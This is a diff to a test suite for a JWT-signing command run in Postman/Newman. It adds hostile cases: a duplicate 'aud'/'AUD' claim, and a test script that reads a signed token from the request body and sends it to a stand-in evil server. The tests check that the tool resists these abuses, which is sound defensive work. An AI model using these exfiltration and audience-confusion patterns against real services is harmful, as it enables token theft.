@@ -64,8 +64,12 @@ describe('run signs with the real key', () => {
     request: object = { method: 'GET', url: urlOf(honest, '/x') },
     extra: object = {},
     signer = ['--signing-key', folder.path('key.pem')],
+    test: string[] = [],
   ) => {
-    const event = [{ listen: 'prerequest', script: { exec: [...SIGNER.split('\n'), ...lines] } }];
+    const event = [
+      { listen: 'prerequest', script: { exec: [...SIGNER.split('\n'), ...lines] } },
+      { listen: 'test', script: { exec: test } },
+    ];
     const collection = {
       info: { name: 'hostile', schema: SCHEMA },
       item: [{ name: 'request', event, request, ...extra }],
@@ -105,6 +109,11 @@ describe('run signs with the real key', () => {
       'for two audiences of one name',
       /its "aud" is not one text/,
       () => [[sendTo(urlOf(evil, '/x'), `sign('{"aud":"${urlOf(honest, '/token')}","aud":"${urlOf(evil, '/')}"}')`)]],
+    ],
+    [
+      'for two audiences of which one is in capitals, which some servers read',
+      /its "aud" is not one text/,
+      () => [[sendTo(urlOf(evil, '/x'), `sign('{"aud":"${urlOf(evil, '/')}","AUD":"${urlOf(honest, '/token')}"}')`)]],
     ],
     ['with claims that are no JSON', /its "aud" is not one text/, () => [[sendTo(urlOf(evil, '/x'), `sign('{"aud')`)]]],
     [
@@ -148,6 +157,30 @@ describe('run signs with the real key', () => {
       assert.deepEqual([...signedAt('evil'), ...signedAt('honest')], [false]);
     });
   }
+
+  it('nothing that a test script can give away: it sees what the throw-away key has signed', async () => {
+    const jws = claims(urlOf(honest, '/token'));
+    const giveAway = [
+      'const { urlencoded, raw } = pm.request.body;',
+      'const seen = raw ? raw.slice(2) : urlencoded.get("any");',
+      sendTo(urlOf(evil, '/x'), 'seen'),
+    ];
+    const request = { method: 'POST', url: urlOf(honest, '/other'), body: form(['a', 'b']) };
+    for (const line of [
+      `pm.request.body.urlencoded.add({ key: "any", value: ${jws} });`,
+      `pm.request.body = { mode: "raw", raw: "a=" + ${jws} };`,
+    ]) {
+      const { code } = await run([line], request, {}, undefined, giveAway);
+      assert.equal(code, 1);
+    }
+    assert.deepEqual(
+      [signedAt('honest'), signedAt('evil')],
+      [
+        [true, true],
+        [false, false],
+      ],
+    );
+  });
 
   it('what a command signs in its place: under the same rules, in Newman with a throw-away key alone', async () => {
     const command = createSignCommand(folder, privateKey);
